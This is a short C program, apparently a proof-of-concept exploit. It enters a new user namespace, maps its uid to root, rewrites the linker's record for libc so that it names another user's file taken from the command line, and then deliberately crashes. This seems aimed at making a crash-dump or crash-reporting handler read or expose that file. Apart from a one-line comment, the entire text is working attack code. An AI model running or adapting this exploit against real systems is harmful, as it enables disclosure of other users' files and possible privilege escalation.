/* Makes itself root of a user namespace, names a file of somebody else as one of its libraries, and dies. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <link.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void put(const char *path, const char *text) {
    int file = open(path, O_WRONLY);
    if (file < 0 || write(file, text, strlen(text)) < 0) perror(path);
    close(file);
}

int main(int count, char **words) {
    char map[64];
    int length = snprintf(map, sizeof map, "0 %d 1", getuid());
    if (count > 2 && length > 0) {
        if (unshare(CLONE_NEWUSER)) perror("unshare");
        put("/proc/self/uid_map", map);
    }
    for (struct link_map *each = _r_debug.r_map; each; each = each->l_next)
        if (strstr(each->l_name, "libc.so")) each->l_name = words[1];
    return *(volatile int *)8;
}
